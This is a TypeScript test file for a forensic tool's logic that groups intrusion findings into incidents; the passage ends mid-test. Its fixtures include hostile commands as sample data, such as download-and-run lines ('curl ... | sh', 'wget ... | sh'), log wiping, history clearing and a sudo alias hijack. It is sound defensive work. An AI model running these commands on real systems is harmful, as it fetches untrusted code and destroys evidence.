/**
 * Joining findings into incidents: each join reason, ties, chains, what is never joined (shared
 * system and writable folders, root, a reused pid), every finding in exactly one incident,
 * determinism under shuffled input, the story's order and gaps, hostile text kept one line.
 */
import { createHash } from 'node:crypto';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { IncidentsFileSchema } from '../../src/evidence/bundle-schemas.js';
import type { AccountRecord } from '../../src/model/access.js';
import type { ChangedFile, SetuidFile } from '../../src/model/activity.js';
import type { AuthLoginRecord } from '../../src/model/auth.js';
import type { KnownFacts } from '../../src/model/facts.js';
import type { Finding, FindingSubject, Severity } from '../../src/model/finding.js';
import type { IncidentsFile } from '../../src/model/incident.js';
import type { SessionRecord } from '../../src/model/logins.js';
import { buildIncidents } from '../../src/story/incidents.js';
import { sessionActivity } from '../../src/story/sessions.js';
import { isSpecificFolder } from '../../src/story/subjects.js';
import { proc } from '../helpers/records.js';

let seq = 0;
function finding(rule: string, subject: FindingSubject, over: Partial<Finding> = {}): Finding {
  seq += 1;
  return {
    id: `F-${String(seq).padStart(4, '0')}`,
    rule,
    severity: 'high',
    title: `${rule} finding ${seq}`,
    detail: '',
    mitre: [],
    subject: { pid: null, path: null, user: null, ip: null, ...subject },
    evidence: ['artifacts/x.jsonl'],
    ...over,
  };
}

function renumber(fs: Finding[]): Finding[] {
  return fs.map((f, i) => ({ ...f, id: `F-${String(i + 1).padStart(4, '0')}` }));
}

function account(user: string, uid: number): AccountRecord {
  return { user, uid, gid: uid, gecos: '', home: uid === 0 ? '/root' : `/home/${user}`, shell: '/bin/bash', line: 1, loginShell: true, passwdField: 'shadow', shadow: null, groups: [] } as unknown as AccountRecord;
}

/** The incident holding a finding. */
function incidentOf(file: IncidentsFile, id: string) {
  return file.incidents.find((i) => i.findings.includes(id))!;
}

function together(file: IncidentsFile, a: string, b: string): boolean {
  return incidentOf(file, a) === incidentOf(file, b);
}

function checkPartition(file: IncidentsFile, findings: Finding[]): void {
  const all = file.incidents.flatMap((i) => i.findings).sort();
  expect(all).toEqual(findings.map((f) => f.id).sort());
  expect(IncidentsFileSchema.safeParse(file).success).toBe(true);
  for (const inc of file.incidents) expect(inc.joins.length).toBe(inc.findings.length - 1);
}

const scanner = proc({ pid: 5617, ppid: 5600, uid: 1001, user: 'deploy', comm: 'pscan2', exe: '/tmp/.. /pscan2', cwd: '/tmp/.. ', startTime: '2026-11-22T22:26:45.000Z', startTicks: 9000, exeSha256: 'a'.repeat(64) });
const shell = proc({ pid: 5600, ppid: 1, uid: 1001, user: 'deploy', comm: 'bash', exe: '/usr/bin/bash', cwd: '/home/deploy', startTime: '2026-11-22T22:26:10.000Z', startTicks: 8000 });
const procSubject = (p: typeof scanner) => ({ pid: p.pid, path: p.exe, user: p.user, comm: p.comm, cwd: p.cwd });

describe('join reasons', () => {
  it('same process: pid and start time', () => {
    const fs = [finding('process.known-tool', procSubject(scanner)), finding('network.ssh-outbound-fanout', { ...procSubject(scanner), hosts: 31 })];
    const r = buildIncidents(fs, { processes: [scanner] });
    expect(r.incidents).toHaveLength(1);
    expect(r.incidents[0]!.joins).toEqual([{ a: fs[0]!.id, b: fs[1]!.id, reason: 'same-process', value: 'pid 5617' }]);
    checkPartition(r, fs);
  });

  it('no join on a reused pid: the finding names another process than the table holds', () => {
    const reused = proc({ pid: 4000, comm: 'xmrig', exe: '/var/tmp/.x/xmrig', cwd: '/', startTicks: 5000 });
    const fs = [
      finding('process.known-tool', { pid: 4000, path: '/var/tmp/.x/xmrig', comm: 'xmrig' }),
      // Read at another moment: same pid, another program (the first exited, the pid was given again).
      finding('process.masquerade', { pid: 4000, path: '/dev/shm/.y/sshd', comm: 'sshd' }),
      // Same pid and name, another start: not the same process either.
      finding('process.deleted-exe', { pid: 4000, path: '/var/tmp/.z/xmrig', comm: 'xmrig', startTicks: 7777 }),
      // A pid from a log (an sshd pid) is never a live process.
      finding('auth.login-after-failures', { pid: 4000, ip: '192.0.2.1', user: 'root', time: '2026-11-22T22:00:00Z', failuresBefore: 3 }),
    ];
    const r = buildIncidents(fs, { processes: [reused] });
    expect(r.incidents).toHaveLength(4);
    checkPartition(r, fs);
  });

  it('process tree: a flagged child of a flagged parent; never a parent that started after its child', () => {
    const parent = proc({ pid: 300, comm: 'kit', exe: '/opt/kit/a', cwd: '/', startTicks: 100 });
    const child = proc({ pid: 301, ppid: 300, comm: 'miner', exe: '/srv/m/b', cwd: '/', startTicks: 200 });
    const fs = [finding('process.known-tool', procSubject(parent)), finding('process.known-tool', procSubject(child))];
    const r = buildIncidents(fs, { processes: [parent, child] });
    expect(r.incidents).toHaveLength(1);
    expect(r.incidents[0]!.joins[0]).toMatchObject({ reason: 'process-tree', value: 'pid 300 → pid 301' });
    const late = { ...parent, startTicks: 300 };
    expect(buildIncidents(fs, { processes: [late, child] }).incidents).toHaveLength(2);
  });

  it('same executable: one sha256 in two folders', () => {
    const a = proc({ pid: 10, comm: 'sshd', exe: '/dev/shm/.a/sshd', cwd: '/', exeSha256: 'b'.repeat(64) });
    const b = proc({ pid: 11, comm: 'crond', exe: '/var/tmp/.b/crond', cwd: '/', exeSha256: 'b'.repeat(64) });
    const fs = [finding('process.masquerade', { ...procSubject(a), claimed: 'sshd' }), finding('process.masquerade', { ...procSubject(b), claimed: 'crond' })];
    const r = buildIncidents(fs, { processes: [a, b] });
    expect(r.incidents).toHaveLength(1);
    expect(r.incidents[0]!.joins[0]).toMatchObject({ reason: 'same-executable', value: `sha256 ${'b'.repeat(64)}` });
  });

  it('same file: a cron line that runs a flagged executable, by its parsed runs or by its text', () => {
    const fs = [
      finding('process.known-tool', procSubject(scanner)),
      finding('persistence.cron', { path: '/var/spool/cron/crontabs/deploy', line: 1, user: 'deploy', command: '/tmp/.. /pscan2 -p 22 >/dev/null', schedule: '* * * * *' }),
    ];
    const r = buildIncidents(fs, { processes: [scanner] });
    expect(r.incidents).toHaveLength(1);
    // The folder and the account would join too: the file is the most telling, and it is kept.
    expect(r.incidents[0]!.joins[0]).toMatchObject({ reason: 'same-file', value: '/tmp/.. /pscan2' });
  });

  it('same folder: a specific folder, shown with its trailing slash', () => {
    const fs = [finding('file.new-executable', { path: '/tmp/.. /pscan2', uid: 0 }), finding('file.new-executable', { path: '/tmp/.. /vuln.txt', uid: 0 })];
    const r = buildIncidents(fs, {});
    expect(r.incidents).toHaveLength(1);
    expect(r.incidents[0]!.joins[0]).toMatchObject({ reason: 'same-folder', value: '/tmp/.. /' });
  });

  it('same address', () => {
    const fs = [
      finding('auth.bruteforce', { ip: '127.0.0.3', failures: 30 }),
      finding('auth.login-after-failures', { ip: '127.0.0.3', user: 'root', time: '2026-11-22T22:26:09Z', failuresBefore: 30 }),
    ];
    const r = buildIncidents(fs, {});
    expect(r.incidents[0]!.joins).toEqual([{ a: fs[0]!.id, b: fs[1]!.id, reason: 'same-address', value: '127.0.0.3' }]);
  });

  it('same account: an ordinary account joins; root and system accounts do not', () => {
    const facts: KnownFacts = { accounts: [account('root', 0), account('www-data', 33), account('deploy', 1001)] };
    const fs = [
      finding('persistence.authorized-key', { path: '/home/deploy/.ssh/authorized_keys', line: 2, user: 'deploy' }),
      finding('persistence.cron', { path: '/var/spool/cron/crontabs/deploy', line: 3, user: 'deploy', command: 'curl -s http://x | sh' }),
      finding('persistence.authorized-key', { path: '/root/.ssh/authorized_keys', line: 1, user: 'root' }),
      finding('persistence.cron', { path: '/var/spool/cron/crontabs/root', line: 1, user: 'root', command: 'wget -q -O- http://y | sh' }),
      finding('persistence.cron', { path: '/var/spool/cron/crontabs/www-data', line: 1, user: 'www-data', command: '/dev/shm/x' }),
      finding('persistence.startup', { path: '/var/www/.bashrc', line: 1, user: 'www-data', text: 'alias sudo=/dev/shm/y' }),
    ];
    const r = buildIncidents(fs, facts);
    expect(incidentOf(r, fs[0]!.id).joins).toEqual([{ a: fs[0]!.id, b: fs[1]!.id, reason: 'same-account', value: 'deploy' }]);
    for (const f of fs.slice(2)) expect(incidentOf(r, f.id).findings).toEqual([f.id]);
    expect(r.incidents).toHaveLength(5);
  });

  it('in session: the login, its history entries and its account\'s processes while it was open', () => {
    const login: AuthLoginRecord = { time: '2026-11-22T22:26:09.000Z', user: 'deploy', address: '127.0.0.3', port: 40000, method: 'password', key: null, host: 'web', program: 'sshd', pid: 4100, source: '/var/log/auth.log', lineNo: 497, logout: '2026-11-22T22:40:12.000Z', failuresFromAddress: { count: 30, first: null, last: null }, failuresForUser: { count: 30, first: null, last: null, addresses: 1, addressesCapped: false } };
    const session = { source: 'auth-log', user: 'deploy', login: login.time, logout: login.logout, address: '127.0.0.3', line: null };
    const lateTool = proc({ pid: 9000, uid: 1001, user: 'deploy', comm: 'xmr', exe: '/home/deploy/.cache/x', cwd: '/', startTime: '2026-11-23T10:00:00.000Z', startTicks: 99999 });
    const fs = [
      finding('auth.login-after-failures', { ip: '127.0.0.3', user: 'deploy', pid: 4100, time: login.time, logout: login.logout, method: 'password', failuresBefore: 30 }, { severity: 'critical' }),
      // The history entry names no address of its own here: only its session joins it.
      finding('activity.history-tampering', { path: '/home/deploy/.bash_history', line: 4, user: 'deploy', command: 'history -c', time: '2026-11-22T22:30:00Z', session }),
      finding('process.known-tool', { pid: 5600, path: '/usr/bin/bash', user: 'deploy', comm: 'bash', cwd: '/home/deploy' }),
      finding('process.known-tool', procSubject(lateTool)),
    ];
    const facts: KnownFacts = { accounts: [account('deploy', 1001)], authLogins: [login], processes: [shell, lateTool] };
    const r = buildIncidents(fs, facts);
    const inc = incidentOf(r, fs[0]!.id);
    expect(inc.findings).toContain(fs[1]!.id);
    expect(inc.findings).toContain(fs[2]!.id);
    const reasons = inc.joins.map((j) => j.reason);
    expect(reasons.filter((x) => x === 'in-session')).toHaveLength(2);
    expect(inc.joins.find((j) => j.reason === 'in-session')!.value).toBe('deploy from 127.0.0.3 2026-11-22 22:26:09–22:40:12 UTC');
    // Started after the session closed: joined by the account, not by the session.
    expect(inc.joins.find((j) => j.b === fs[3]!.id)).toMatchObject({ reason: 'same-account', value: 'deploy' });
    checkPartition(r, fs);
  });

  it('root\'s session joins its own history, not every root process that started while it was open', () => {
    const login: AuthLoginRecord = { time: '2026-11-22T22:00:00.000Z', user: 'root', address: '198.51.100.1', port: 1, method: 'publickey', key: null, host: null, program: 'sshd', pid: 1, source: 'journal', lineNo: null, logout: null, failuresFromAddress: { count: 0, first: null, last: null }, failuresForUser: { count: 0, first: null, last: null, addresses: 0, addressesCapped: false } };
    const daemon = proc({ pid: 800, comm: 'sshd', exe: '/dev/shm/.s/sshd', cwd: '/', startTime: '2026-11-22T23:00:00.000Z' });
    const fs = [
      finding('auth.root-login', { ip: '198.51.100.1', user: 'root', first: login.time, last: login.time, logins: 1 }),
      finding('process.masquerade', { ...procSubject(daemon), claimed: 'sshd' }),
      finding('activity.log-wipe', { path: '/root/.bash_history', line: 9, user: 'root', command: 'rm -f /var/log/wtmp', time: '2026-11-22T22:05:00Z', session: { source: 'auth-log', user: 'root', login: login.time, logout: null, address: '198.51.100.1', line: null } }),
    ];
    const r = buildIncidents(fs, { authLogins: [login], processes: [daemon], accounts: [account('root', 0)] });
    expect(together(r, fs[0]!.id, fs[2]!.id)).toBe(true);
    expect(together(r, fs[0]!.id, fs[1]!.id)).toBe(false);
  });
});

describe('addresses that only attacked: one campaign, however many', () => {
  const T0 = Date.UTC(2026, 10, 22, 0, 0, 0);
  const at = (s: number) => new Date(T0 + s * 1000).toISOString();
  const ip = (i: number) => `198.${18 + Math.floor(i / 65536)}.${Math.floor(i / 256) % 256}.${i % 256}`;
  const BRUTE = 3000;
  const SWEEP = 200;
  const PROBE = 100;
  /** The first nine addresses are the busiest after the btmp one; the others fail 10 to 59 times. */
  const failuresOf = (i: number) => (i < 9 ? 1000 - i * 10 : 10 + (i % 50));

  function scene() {
    const attack: Finding[] = [];
    for (let i = 0; i < BRUTE; i++) {
      attack.push(finding('auth.bruteforce', { ip: ip(i), failures: failuresOf(i), firstFailure: at(60 + i), lastFailure: at(120 + i), acceptedLogins: 0 }, { severity: i % 7 === 0 ? 'high' : 'medium', mitre: ['T1110', 'T1110.001'], evidence: ['artifacts/auth-tally.json'] }));
      // Every tenth address also holds a flood of connections the sshd processes name no user for.
      if (i % 10 === 0) attack.push(finding('network.ssh-inbound-flood', { ip: ip(i), connections: 12, users: [], sshdPids: [] }, { severity: 'medium', mitre: ['T1110'], evidence: ['artifacts/ssh-view.json'] }));
    }
    for (let i = BRUTE; i < BRUTE + SWEEP; i++) attack.push(finding('auth.enumeration', { ip: ip(i), invalidUsers: 15, failures: 0, acceptedLogins: 0 }, { severity: 'low', mitre: ['T1110.003'] }));
    for (let i = BRUTE + SWEEP; i < BRUTE + SWEEP + PROBE; i++) attack.push(finding('auth.probe', { ip: ip(i), probes: 25, failures: 0 }, { severity: 'low', mitre: ['T1046'] }));
    // The busiest address of all, and the first and the last.
    attack.push(finding('login.btmp-bruteforce', { ip: '203.0.113.250', failures: 9000, firstFailure: at(5), lastFailure: at(86_000) }, { severity: 'high', mitre: ['T1110'] }));

    const login: AuthLoginRecord = { time: at(4000), user: 'deploy', address: '203.0.113.7', port: 1, method: 'password', key: null, host: null, program: 'sshd', pid: 1, source: '/var/log/auth.log', lineNo: 9, logout: null, failuresFromAddress: { count: 40, first: null, last: null }, failuresForUser: { count: 40, first: null, last: null, addresses: 1, addressesCapped: false } };
    const keyLogin: AuthLoginRecord = { ...login, address: '203.0.113.8', method: 'publickey', user: 'alice', time: at(5000) };
    const wtmp: SessionRecord = { user: 'bob', line: 'pts/1', host: '::ffff:203.0.113.9', addr: '::ffff:203.0.113.9', pid: 2, login: at(6000), logout: at(6100), end: 'logout', source: 'wtmp', file: '/var/log/wtmp' };
    const own = {
      // Brute force, then a login flagged by a rule: the login thread stays its own incident.
      brute7: finding('auth.bruteforce', { ip: '203.0.113.7', failures: 40, firstFailure: at(3000), lastFailure: at(3990), acceptedLogins: 1 }, { severity: 'medium' }),
      login7: finding('auth.login-after-failures', { ip: '203.0.113.7', user: 'deploy', time: login.time, failuresBefore: 40, method: 'password' }, { severity: 'critical' }),
      // Logged in with a key no rule flags: the auth log's login keeps it out.
      brute8: finding('auth.bruteforce', { ip: '203.0.113.8', failures: 30, firstFailure: at(4500), lastFailure: at(4900), acceptedLogins: 0 }, { severity: 'medium' }),
      // A login record from it (IPv4-mapped in wtmp).
      brute9: finding('auth.bruteforce', { ip: '203.0.113.9', failures: 30, firstFailure: at(5500), lastFailure: at(5900), acceptedLogins: 0 }, { severity: 'medium' }),
      // Another finding shares the address: root's key was accepted from it.
      brute10: finding('auth.bruteforce', { ip: '203.0.113.10', failures: 30, firstFailure: at(7000), lastFailure: at(7100), acceptedLogins: 0 }, { severity: 'medium' }),
      refused10: finding('auth.root-login-refused', { ip: '203.0.113.10', user: 'root', refused: 2 }, { severity: 'high' }),
      // The tally counts a login the logins step did not list.
      brute11: finding('auth.bruteforce', { ip: '203.0.113.11', failures: 30, firstFailure: at(8000), lastFailure: at(8100), acceptedLogins: 2 }, { severity: 'medium' }),
      // A flood whose sshd processes name a logged-in user.
      flood12: finding('network.ssh-inbound-flood', { ip: '203.0.113.12', connections: 14, users: ['carol'], sshdPids: [3] }, { severity: 'medium' }),
    };
    const fs = renumber([...attack, ...Object.values(own)]);
    const ids = Object.fromEntries(Object.keys(own).map((k, i) => [k, fs[attack.length + i]!.id])) as Record<keyof typeof own, string>;
    const facts: KnownFacts = { authLogins: [login, keyLogin], sessions: [wtmp], accounts: [account('deploy', 1001), account('alice', 1002), account('bob', 1003)] };
    return { fs, facts, attack: fs.slice(0, attack.length), ids };
  }

  it('thousands of addresses that never logged in are one incident; an address that logged in keeps its own', () => {
    const { fs, facts, attack, ids } = scene();
    const r = buildIncidents(fs, facts);
    checkPartition(r, fs);
    const campaign = incidentOf(r, attack[0]!.id);
    expect(campaign.findings).toEqual(attack.map((f) => f.id));
    const addresses = BRUTE + SWEEP + PROBE + 1;
    expect(campaign.title).toBe(`Brute force, user-name sweeps and probing from ${addresses} addresses (no login)`);
    expect(campaign.subjects.addresses).toHaveLength(addresses);
    expect(campaign.severity).toBe('high');
    // One join per address past the first (the flood of an address joins its brute force by the address).
    expect(campaign.joins.filter((j) => j.reason === 'attack-only')).toHaveLength(addresses - 1);
    expect(campaign.joins.filter((j) => j.reason === 'same-address')).toHaveLength(BRUTE / 10);
    expect(campaign.joins.find((j) => j.reason === 'attack-only')!.value).toBe(`${ip(1)} (no login)`);
    // The campaign plus: the login thread, the key login, the login record, the refused root key with its brute force, the tally's login, the flood with a user.
    expect(r.incidents).toHaveLength(7);
    expect(incidentOf(r, ids.login7).findings).toEqual([ids.brute7, ids.login7]);
    expect(incidentOf(r, ids.refused10).findings).toEqual([ids.brute10, ids.refused10]);
    for (const k of ['brute8', 'brute9', 'brute11', 'flood12'] as const) expect(incidentOf(r, ids[k]).findings).toEqual([ids[k]]);
    // The login thread is the main incident; the campaign comes after the incidents of its severity, however big.
    expect(r.main).toBe(incidentOf(r, ids.login7).id);
    expect(r.incidents.map((i) => i.id).indexOf(campaign.id)).toBe(2);
    expect(incidentOf(r, ids.refused10).severity).toBe('high');
  });

  it('its story is short: the counts, the first failure, the most active addresses, the last failure', () => {
    const { fs, facts, attack } = scene();
    const campaign = incidentOf(buildIncidents(fs, facts), attack[0]!.id);
    const failures = Array.from({ length: BRUTE }, (_, i) => failuresOf(i)).reduce((a, b) => a + b, 0) + 9000;
    expect(campaign.story.map((l) => [l.time, l.tactic, l.text])).toEqual([
      [at(5), 'credential-access', `${BRUTE + SWEEP + PROBE + 1} addresses attacked ssh and none logged in: ${failures} failed logins, ${SWEEP * 15} user names that are not accounts, ${PROBE * 25} connections ended before authenticating, ${(BRUTE / 10) * 12} concurrent connections held open`],
      [at(5), 'credential-access', `the first: 203.0.113.250 at ${at(5).slice(0, 19).replace('T', ' ')} (9000 failed logins)`],
      [null, 'credential-access', `the most active: 203.0.113.250 (9000 failed logins); ${ip(0)} (1000 failed logins, 12 open connections); ${[1, 2, 3, 4, 5, 6, 7, 8].map((i) => `${ip(i)} (${1000 - i * 10} failed logins)`).join('; ')}; and ${BRUTE + SWEEP + PROBE + 1 - 10} more addresses`],
      [at(86_000), 'credential-access', `the last: 203.0.113.250 at ${at(86_000).slice(0, 19).replace('T', ' ')} (9000 failed logins)`],
    ]);
    expect(campaign.story[0]!.findings).toHaveLength(attack.length);
    expect(campaign.first).toBe(at(5));
    expect(campaign.last).toBe(at(86_000));
  });

  it('the same incidents whatever the order of the findings', () => {
    const { fs, facts } = scene();
    const r = buildIncidents(fs, facts);
    let x = 12345;
    const shuffled = [...fs];
    for (let i = shuffled.length - 1; i > 0; i--) {
      x = (Math.imul(x, 1103515245) + 12345) | 0;
      const j = Math.abs(x) % (i + 1);
      [shuffled[i], shuffled[j]] = [shuffled[j]!, shuffled[i]!];
    }
    expect(buildIncidents(shuffled, facts)).toEqual(r);
  });

  it('one address alone is not a campaign: it keeps its own title and story', () => {
    const fs = renumber([finding('auth.bruteforce', { ip: '192.0.2.44', failures: 30, firstFailure: at(0), lastFailure: at(60) }, { severity: 'medium' })]);
    const r = buildIncidents(fs, {});
    expect(r.incidents).toHaveLength(1);
    expect(r.incidents[0]!.title).toBe('SSH brute force from 192.0.2.44');
  });
});

describe('sessions: one derivation with session-activity', () => {
  const T = (hms: string) => `2026-11-22T${hms}.000Z`;
  const wtmp: SessionRecord = { user: 'deploy', line: 'pts/0', host: '::ffff:127.0.0.3', addr: '::ffff:127.0.0.3', pid: 4100, login: T('22:26:12'), logout: T('22:40:12'), end: 'logout', source: 'wtmp', file: '/var/log/wtmp' };
  // The auth log saw the login 4 s earlier and no PAM close (rotated away): one session all the same, ended by wtmp.
  const accepted: AuthLoginRecord = { time: T('22:26:08'), user: 'deploy', address: '127.0.0.3', port: 40000, method: 'password', key: null, host: 'web', program: 'sshd', pid: 4100, source: '/var/log/auth.log', lineNo: 497, logout: null, failuresFromAddress: { count: 30, first: null, last: null }, failuresForUser: { count: 30, first: null, last: null, addresses: 1, addressesCapped: false } };
  // A console login of the same account: not an ssh session for either view.
  const console_: SessionRecord = { ...wtmp, line: 'tty1', host: '', addr: null, login: T('22:50:00'), logout: null, end: 'still-logged-in', source: 'utmp' };
  const during = proc({ pid: 7001, uid: 1001, user: 'deploy', comm: 'pscan2', exe: '/srv/k1/pscan2', cwd: '/', startTime: T('22:30:00'), startTicks: 1 });
  const after = proc({ pid: 7002, uid: 1001, user: 'deploy', comm: 'miner', exe: '/srv/k2/miner', cwd: '/', startTime: T('23:30:00'), startTicks: 2 });
  const facts: KnownFacts = { accounts: [account('deploy', 1001)], sessions: [wtmp, console_], authLogins: [accepted], processes: [during, after] };
  const fs = renumber([
    finding('auth.login-after-failures', { ip: '127.0.0.3', user: 'deploy', time: accepted.time, failuresBefore: 30, method: 'password' }, { severity: 'critical' }),
    // Tied by the history step to the wtmp record of the session: the same session as the auth log's login.
    finding('activity.download-execute', { path: '/home/deploy/.bash_history', line: 3, user: 'deploy', command: 'curl x | sh', time: T('22:27:00'), session: { source: 'wtmp', user: 'deploy', login: wtmp.login, logout: wtmp.logout, address: wtmp.addr, line: 'pts/0' } }),
    finding('process.known-tool', procSubject(during)),
    finding('process.known-tool', procSubject(after)),
  ]);

  it('the span incidents join in is the span session-activity lists', () => {
    const activity = sessionActivity(facts, fs);
    expect(activity.sessions).toHaveLength(1);
    const listed = activity.sessions[0]!;
    expect(listed).toMatchObject({ start: wtmp.login, end: wtmp.logout, method: 'password' });
    const r = buildIncidents(fs, facts);
    const inc = incidentOf(r, fs[0]!.id);
    expect(inc.findings).toEqual(fs.map((f) => f.id));
    const inSession = inc.joins.filter((j) => j.reason === 'in-session');
    // The login (by the auth log's time), the history entry (by the wtmp record) and the process started while it was open.
    expect(inSession.map((j) => j.b)).toEqual([fs[1]!.id, fs[2]!.id]);
    expect(inSession[0]!.value).toBe(`deploy from ::ffff:127.0.0.3 2026-11-22 22:26:12–22:40:12 UTC`);
    // Started after wtmp's logout: the auth log alone would have left the session open; the one derivation does not.
    expect(inc.joins.find((j) => j.b === fs[3]!.id)).toMatchObject({ reason: 'same-account' });
  });
});

describe('never joined on coincidence', () => {
  it('two processes in /tmp are not one incident because both are in /tmp', () => {
    const a = proc({ pid: 20, comm: 'a', exe: '/tmp/a', cwd: '/tmp' });
    const b = proc({ pid: 21, comm: 'b', exe: '/tmp/b', cwd: '/tmp' });
    const c = proc({ pid: 22, comm: 'c', exe: '/usr/bin/perl', cwd: '/' });
    const d = proc({ pid: 23, comm: 'd', exe: '/usr/bin/perl', cwd: '/', exeSha256: 'c'.repeat(64) });
    const e = proc({ pid: 24, comm: 'e', exe: '/dev/shm/e', cwd: '/root' });
    const f2 = proc({ pid: 25, comm: 'f', exe: '/var/tmp/f', cwd: '/home/alice' });
    const all = [a, b, c, { ...d }, e, f2];
    const fs = all.map((p) => finding('process.exe-in-writable-dir', procSubject(p)));
    const r = buildIncidents(fs, { processes: all.map((p) => (p.pid === 22 ? { ...p, exeSha256: 'c'.repeat(64) } : p)), accounts: [account('root', 0), account('alice', 1000)] });
    expect(r.incidents).toHaveLength(6);
  });

  it.each([
    ['/', false], ['/tmp/', false], ['/var/tmp/', false], ['/dev/shm/', false], ['/etc/', false], ['/usr/bin/', false], ['/root/', false],
    ['/home/', false], ['/home/alice/', false], ['/home/alice/.ssh/', false], ['/etc/cron.d/', false], ['/var/spool/cron/crontabs/', false], ['/usr/local/bin/', false],
    ['/tmp/.. /', true], ['/tmp/x/', true], ['/dev/shm/.x/', true], ['/usr/lib/.sshd/', true], ['/etc/.. /', true], ['/home/alice/.x/', true], ['/root/.kit/', true], ['/opt/app/', true],
  ])('%s is specific: %s', (folder, specific) => {
    expect(isSpecificFolder(folder)).toBe(specific);
  });

  it('an account home from /etc/passwd is not specific', () => {
    expect(isSpecificFolder('/var/www/', new Set(['/var/www']))).toBe(false);
  });

  it('empty files share no executable', () => {
    const empty = 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855';
    const fs = [finding('file.new-executable', { path: '/srv/a/x', sha256: empty }), finding('file.new-executable', { path: '/srv/b/y', sha256: empty })];
    expect(buildIncidents(fs, {}).incidents).toHaveLength(2);
  });

  describe('the same sha256 on tiny or trivial content', () => {
    const sha = (text: string) => createHash('sha256').update(text).digest('hex');
    const changed = (p: string, content: string, size = Buffer.byteLength(content)) =>
      ({ path: p, type: 'file', linkTarget: null, mode: 0o755, uid: 0, gid: 0, size, ino: '1', atime: null, mtime: '2026-11-22T22:00:00.000Z', ctime: '2026-11-22T22:00:00.000Z', btime: null, inWindow: ['mtime'], executable: 'script', sha256: sha(content), md5: null, writableDir: '/tmp', hiddenDir: null, area: '/tmp' }) as unknown as ChangedFile;
    const setuid = (p: string, content: string) =>
      ({ path: p, mode: 0o4755, uid: 0, gid: 0, size: Buffer.byteLength(content), mtime: '2026-11-22T22:00:00.000Z', ctime: '2026-11-22T22:00:00.000Z', btime: null, sha256: sha(content), package: null, packaged: false }) as unknown as SetuidFile;

    /** 4,300 identical scripts, each in its own folder of a temp tree, and a setuid file with the same bytes. */
    function scene(content: string) {
      const scripts = Array.from({ length: 4300 }, (_, i) => changed(`/tmp/build/pkg${i}/run`, content));
      const stub = setuid('/srv/s/stub', content);
      const fs = renumber([...scripts.map((c) => finding('file.new-executable', { path: c.path, uid: 0, sha256: c.sha256, mtime: c.mtime })), finding('file.setuid-unpackaged', { path: stub.path, uid: 0, sha256: stub.sha256 })]);
      return { fs, facts: { changedFiles: scripts, setuidFiles: [stub] } as KnownFacts };
    }

    it('a few-byte stub shared by 4,300 scripts and a setuid file joins nothing', () => {
      const { fs, facts } = scene('#!/bin/sh\necho ok\n');
      const r = buildIncidents(fs, facts);
      expect(r.incidents).toHaveLength(fs.length);
      expect(r.incidents.every((i) => i.findings.length === 1 && i.joins.length === 0)).toBe(true);
      expect(r.incidents.flatMap((i) => i.subjects.sha256)).toEqual([]);
    });

    it('the same bytes past the minimum size do join: the control of the test above', () => {
      const { fs, facts } = scene(`#!/bin/sh\n${'# kit loader '.repeat(8)}\ncurl -s http://198.51.100.4/k | sh\n`);
      const r = buildIncidents(fs, facts);
      expect(r.incidents).toHaveLength(1);
      expect(r.incidents[0]!.findings).toHaveLength(4301);
      expect(new Set(r.incidents[0]!.joins.map((j) => j.reason))).toEqual(new Set(['same-executable']));
    });

    it('trivial content never joins, whatever size a fact claims; a file hash of unknown size does not either', () => {
      const trivial = sha('#!/bin/sh\nexit 0\n');
      const lying = [changed('/srv/a/x', '#!/bin/sh\nexit 0\n', 4096), changed('/srv/b/y', '#!/bin/sh\nexit 0\n', 4096)];
      const fs = renumber([finding('file.new-executable', { path: '/srv/a/x', sha256: trivial }), finding('file.new-executable', { path: '/srv/b/y', sha256: trivial })]);
      expect(buildIncidents(fs, { changedFiles: lying }).incidents).toHaveLength(2);
      const unknown = renumber([finding('yara.match', { path: '/srv/c/z', sha256: 'e'.repeat(64) }), finding('yara.match', { path: '/srv/d/w', sha256: 'e'.repeat(64) })]);
      expect(buildIncidents(unknown, {}).incidents).toHaveLength(2);
      // The finding's own size counts when the facts have none.
      const sized = unknown.map((f) => ({ ...f, subject: { ...f.subject, size: 70_000 } }));
      expect(buildIncidents(sized, {}).incidents).toHaveLength(1);
    });

    it('a live process whose executable is a tiny file shares nothing with its copies', () => {
      const content = '\x7fELF tiny';
      const a = proc({ pid: 60, comm: 'a', exe: '/srv/x/a', cwd: '/', exeSha256: sha(content) });
      const b = proc({ pid: 61, comm: 'b', exe: '/opt/y/b', cwd: '/', exeSha256: sha(content) });
      const fs = renumber([finding('process.known-tool', procSubject(a)), finding('process.known-tool', procSubject(b))]);
      expect(buildIncidents(fs, { processes: [a, b], changedFiles: [changed('/srv/x/a', content)] }).incidents).toHaveLength(2);
      // Without a size the executable of a live process is trusted: the kernel runs binaries, not stubs.
      expect(buildIncidents(fs, { processes: [a, b] }).incidents).toHaveLength(1);
    });
  });

  it('/etc/passwd is not a shared subject: two new accounts are two incidents', () => {
    const fs = [finding('account.new', { path: '/etc/passwd', line: 30, user: 'x1', uid: 0 }), finding('account.new', { path: '/etc/passwd', line: 31, user: 'x2', uid: 0 })];
    expect(buildIncidents(fs, {}).incidents).toHaveLength(2);
  });
});

describe('chains, ties, partition, determinism', () => {
  it('a chain through several subjects: address → account → file → process', () => {
    const fs = renumber([
      finding('auth.bruteforce', { ip: '203.0.113.7', failures: 200, firstFailure: '2026-11-22T20:00:00Z', lastFailure: '2026-11-22T22:26:00Z' }, { severity: 'medium', mitre: ['T1110'] }),
      finding('auth.login-after-failures', { ip: '203.0.113.7', user: 'deploy', time: '2026-11-22T22:26:09Z', failuresBefore: 200, method: 'password' }, { severity: 'critical', mitre: ['T1110.001', 'T1078'] }),
      finding('persistence.cron', { path: '/var/spool/cron/crontabs/deploy', line: 1, user: 'deploy', command: '/tmp/.. /pscan2', schedule: '* * * * *' }, { mitre: ['T1053.003'] }),
      finding('process.known-tool', procSubject(scanner), { mitre: ['T1046'] }),
      finding('network.ssh-outbound-fanout', { ...procSubject(scanner), hosts: 31 }, { mitre: ['T1046'] }),
    ]);
    const r = buildIncidents(fs, { processes: [scanner], accounts: [account('deploy', 1001)] });
    expect(r.incidents).toHaveLength(1);
    const inc = r.incidents[0]!;
    expect(inc.joins.map((j) => j.reason).sort()).toEqual(['same-account', 'same-address', 'same-file', 'same-process']);
    expect(inc.title).toBe('Brute force and login as deploy from 203.0.113.7, then SSH scanner pscan2 running from /tmp/.. /, restarted by cron');
    expect(inc.severity).toBe('critical');
    // Every tactic of every technique named, in ATT&CK's order (T1078 alone has four).
